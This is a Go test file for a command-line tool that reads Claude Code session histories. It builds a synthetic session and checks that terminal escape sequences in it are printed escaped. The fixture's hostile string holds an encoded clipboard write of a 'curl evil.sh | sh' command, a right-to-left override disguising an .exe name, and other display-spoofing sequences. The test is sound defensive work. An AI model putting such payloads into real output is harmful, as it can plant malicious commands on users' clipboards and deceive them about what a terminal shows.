package main

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/pos-lake/pos/internal/testlake"
)

// hostile is text a history can hold that acts on a terminal: a clipboard
// write (OSC 52), a screen clear, a window title (OSC 0), hidden text
// (SGR 8), a C1 CSI (U+009B), a right-to-left override, and a carriage
// return and backspaces that overwrite what was printed.
const hostile = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b[2J\x1b[H \x1b]0;pwned\x07 \x1b[8mhidden\x1b[0m \u009b31m \u202egnp.exe\u202c" +
	" \u2066iso\u2069 done\rOVERWRITTEN back\b\b\bX\x7f"

// hostileLake builds a lake from one Claude Code session whose prompts,
// replies, tool inputs and outputs, decisions and paths hold hostile.
func hostileLake(t *testing.T) string {
	t.Helper()
	const sid = "33333333-3333-4333-8333-333333333333"
	root := filepath.Join(t.TempDir(), "claude")
	dir := filepath.Join(root, "projects", "-home-dev-evil")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	cwd := "/home/dev/evil\x1b[2J"
	path := "/home/dev/evil/\x1b]0;title\x07main.go"
	n := 0
	line := func(typ string, message any, extra map[string]any) string {
		n++
		m := map[string]any{"parentUuid": nil, "isSidechain": false, "userType": "external", "cwd": cwd, "sessionId": sid,
			"version": "2.1.39", "gitBranch": "main\x1b[8m", "uuid": fmt.Sprintf("00000000-0000-4000-8000-%012d", n),
			"timestamp": fmt.Sprintf("2026-03-04T10:00:%02d.000Z", n), "type": typ, "message": message}
		for k, v := range extra {
			m[k] = v
		}
		b, err := json.Marshal(m)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	usage := map[string]any{"input_tokens": 10, "output_tokens": 20, "cache_creation_input_tokens": 0, "cache_read_input_tokens": 0}
	assistant := func(id string, content ...any) map[string]any {
		return map[string]any{"id": id, "type": "message", "role": "assistant", "model": "claude-opus-4-6", "content": content,
			"stop_reason": nil, "stop_sequence": nil, "usage": usage}
	}
	lines := []string{
		line("user", map[string]any{"role": "user", "content": "Fix the build " + hostile}, nil),
		line("assistant", assistant("msg_E1", map[string]any{"type": "tool_use", "id": "toolu_E1", "name": "Read",
			"input": map[string]any{"file_path": path}}), map[string]any{"requestId": "req_E1"}),
		line("user", map[string]any{"role": "user", "content": []any{map[string]any{"tool_use_id": "toolu_E1", "type": "tool_result",
			"content": "package main // " + hostile}}}, nil),
		line("assistant", assistant("msg_E2", map[string]any{"type": "text",
			"text": "We decided to pin the build " + hostile + ". The build is fixed."}), map[string]any{"requestId": "req_E2"}),
		line("user", map[string]any{"role": "user", "content": "And the tests? " + hostile}, nil),
		line("assistant", assistant("msg_E3", map[string]any{"type": "text", "text": "The tests pass " + hostile}),
			map[string]any{"requestId": "req_E3"}),
	}
	if err := os.WriteFile(filepath.Join(dir, sid+".jsonl"), []byte(strings.Join(lines, "\n")+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	lake := filepath.Join(t.TempDir(), "lake")
	if err := testlake.Embedded(context.Background(), root, lake, true); err != nil {
		t.Fatal(err)
	}
	return lake
}

// terminalUnsafe describes the first character of s a terminal would act
// on (other than newline and tab), or returns "".
func terminalUnsafe(s string) string {
	for i, r := range s {
		switch {
		case r == utf8.RuneError && !strings.HasPrefix(s[i:], "\uFFFD"):
			return fmt.Sprintf("invalid UTF-8 at byte %d", i)
		case r < 0x20 && r != '\n' && r != '\t', r == 0x7f, r >= 0x80 && r <= 0x9f,
			r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r == 0x200e, r == 0x200f, r == 0x061c:
			return fmt.Sprintf("%U at byte %d: %q", r, i, s[max(0, i-20):min(len(s), i+20)])
		}
	}
	return ""
}

// Every command, in every format, prints the hostile text visibly
// escaped, on stdout and on stderr; --raw prints it as stored.
func TestTerminalEscapesNeutralized(t *testing.T) {
	elake := hostileLake(t)
	const sid = "33333333"
	formats := []string{"table", "csv", "json", "ndjson"}
	var cases [][]string
	for _, f := range formats {
		cases = append(cases,
			[]string{"recent", "-s", sid, "--tools", "-f", f},
			[]string{"recent", "-s", sid, "--summarize", "-f", f},
			[]string{"sessions", "-f", f},
			[]string{"search", "build", "-f", f},
			[]string{"search", "build", "--group-by", "session", "-f", f},
			[]string{"timeline", "-f", f},
			[]string{"files", "main.go", "-f", f},
			[]string{"decisions", "-f", f},
			[]string{"stats", "--by", "project", "-f", f},
			[]string{"sql", "-f", f, "SELECT prompt, response FROM exchanges"},
			[]string{"context", sid, "--dry-run", "-f", f},
		)
	}
	cases = append(cases,
		[]string{"context", sid}, []string{"context", sid, "-f", "json"}, []string{"context", "--query", "build"},
		[]string{"summarize", sid}, []string{"summarize", sid, "-f", "json"},
	)
	for _, args := range cases {
		name := strings.Join(args, " ")
		t.Run(name, func(t *testing.T) {
			args := append(args, "--lake", elake)
			if args[0] != "summarize" {
				args = append(args, "--width", "200")
			}
			code, stdout, stderr := run("", args...)
			if code != 0 {
				t.Fatalf("exit %d: %s", code, stderr)
			}
			if what := terminalUnsafe(stdout); what != "" {
				t.Errorf("stdout: %s", what)
			}
			if what := terminalUnsafe(stderr); what != "" {
				t.Errorf("stderr: %s", what)
			}
			if !strings.Contains(stdout+stderr, `\u001b`) {
				t.Errorf("the history's escape is not shown:\n%s\n%s", stdout, stderr)
			}
		})
	}
	// An error message that quotes text is escaped too.
	code, _, stderr := run("", "sql", "--lake", elake, "SELECT CAST(prompt AS INTEGER) FROM exchanges")
	if code == 0 || terminalUnsafe(stderr) != "" || !strings.Contains(stderr, `\u001b`) {
		t.Errorf("sql error: exit %d, stderr %q", code, stderr)
	}
	// As stored, with --raw: the same text reaches the output (which the
	// checks above would catch).
	for _, args := range [][]string{{"recent", "-s", sid, "-f", "table"}, {"recent", "-s", sid, "-f", "json"}, {"context", sid}} {
		_, stdout, _ := run("", append(args, "--lake", elake, "--raw")...)
		if terminalUnsafe(stdout) == "" {
			t.Errorf("%v --raw: the history's control characters are gone:\n%s", args, stdout)
		}
	}
}
